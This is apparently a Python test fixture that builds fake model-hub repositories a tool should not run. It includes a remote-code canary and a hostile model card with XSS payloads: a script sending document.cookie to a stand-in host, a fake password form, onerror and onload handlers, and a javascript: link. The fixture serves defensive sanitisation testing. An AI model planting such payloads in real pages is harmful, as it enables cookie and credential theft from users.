"""The stock's models that do not run here, each for a reason of its own, and one whose card is rude."""

from __future__ import annotations

import json
import struct
from pathlib import Path
from typing import Any

from tests.fake_hub.cards import card
from tests.fake_hub.family import BASE, files, with_config
from tests.fake_hub.files import Source
from tests.fake_hub.repo import Repo
from tests.fake_hub.weights import Tensors, decoder, filled

RUDE = """# Loud

<script>fetch('http://192.0.2.1/?' + document.cookie)</script>
<img src="http://192.0.2.1/pixel.png" onerror="alert(1)">
<form action="http://192.0.2.1/login"><input name="password"><button>Sign in again</button></form>
<iframe src="http://192.0.2.1/"></iframe>
<svg onload="alert(2)"><style>* { display: none }</style></svg>
[A link](javascript:alert(3)) and ![a picture](http://192.0.2.1/picture.png)

Beneath all this stands one honest sentence.
"""


def strangers(tiny: Path | None) -> list[Repo]:
    """What is not a causal language model in safetensors. Without the tiny models, those that need none."""
    return [
        _gguf_only(),
        _pickle_only(),
        _adapter(),
        _encoder(),
        _vision(),
        *([_remote_code(tiny), _loud(tiny)] if tiny else []),
    ]


def _gguf_only() -> Repo:
    text = card("# Ember for llama.cpp\n", license="apache-2.0", base_model=BASE)
    whole = b"GGUF" + struct.pack("<IQQ", 3, 0, 0) + bytes(50_000)
    described = {"total": 70_000, "architecture": "llama", "context_length": 512}
    return Repo(
        "fileroom/ember-GGUF",
        {"README.md": text, "ember.Q4_K_M.gguf": whole, "ember.Q8_0.gguf": whole},
        created="2025-02-20T09:00:00.000Z",
        downloads=7_700,
        info={"gguf": described},
    )


def _pickle_only() -> Repo:
    config = {"architectures": ["GPT2LMHeadModel"], "model_type": "gpt2", "n_embd": 32, "n_layer": 3, "n_head": 4}
    return Repo(
        "picklejar/brine",
        {
            "README.md": card("# Brine\n", license="mit"),
            "config.json": json.dumps(config),
            "pytorch_model.bin": bytes(9000),
        },
        created="2022-06-01T09:00:00.000Z",
        downloads=350,
        unsafe={"pytorch_model.bin": "unsafe"},
    )


def _adapter() -> Repo:
    settings = {"peft_type": "LORA", "task_type": "CAUSAL_LM", "base_model_name_or_path": BASE, "r": 4}
    pair: Tensors = {"layer.lora_A.weight": ("F32", (4, 32)), "layer.lora_B.weight": ("F32", (32, 4))}
    return Repo(
        "quiet-owl/ember-lora",
        {
            "README.md": card("# Ember, adapted\n", license="apache-2.0", base_model=BASE),
            "adapter_config.json": json.dumps(settings),
            "adapter_model.safetensors": filled(pair),
        },
        created="2025-06-06T09:00:00.000Z",
        downloads=90,
    )


def _encoder() -> Repo:
    return Repo(
        "readers/between-the-lines",
        _alien("BertForMaskedLM", "bert", card("# Between the Lines\n", license="apache-2.0", language="en")),
        created="2022-03-02T23:29:04.000Z",
        downloads=500_000,
        likes=800,
    )


def _vision() -> Repo:
    return Repo(
        "painters/glance",
        _alien("ViTForImageClassification", "vit", card("# Glance\n", license="apache-2.0")),
        created="2023-01-01T09:00:00.000Z",
        downloads=44_000,
    )


def _alien(architecture: str, kind: str, text: str) -> dict[str, Source]:
    config: dict[str, Any] = {"architectures": [architecture], "model_type": kind, "hidden_size": 32}
    return {
        "README.md": text,
        "config.json": json.dumps(config),
        "model.safetensors": filled(decoder(32, 1, 2, 2, 64, 300, "F32")),
    }


def _remote_code(tiny: Path) -> Repo:
    """A model that wants code of its own to run; the code would leave a file behind."""
    code = "import pathlib\n\npathlib.Path('canary').write_text('code of a stranger ran')\n"
    mapped = {"AutoModelForCausalLM": "modeling_stranger.StrangerForCausalLM"}
    changed = with_config(tiny / "llama", auto_map=mapped, model_type="stranger", architectures=["StrangerForCausalLM"])
    return Repo(
        "strangers/bring-your-own",
        files(
            tiny / "llama", "# Bring Your Own\n", {"license": "mit"}, modeling_stranger__py=code, config__json=changed
        ),
        created="2025-08-08T09:00:00.000Z",
        downloads=1_100,
    )


def _loud(tiny: Path) -> Repo:
    return Repo(
        "mischief/loud",
        files(tiny / "llama", RUDE, {"license": "mit", "tags": ["<b>bold</b>", "\u202etag"], "language": ["en"]}),
        created="2025-10-31T09:00:00.000Z",
        downloads=13,
    )
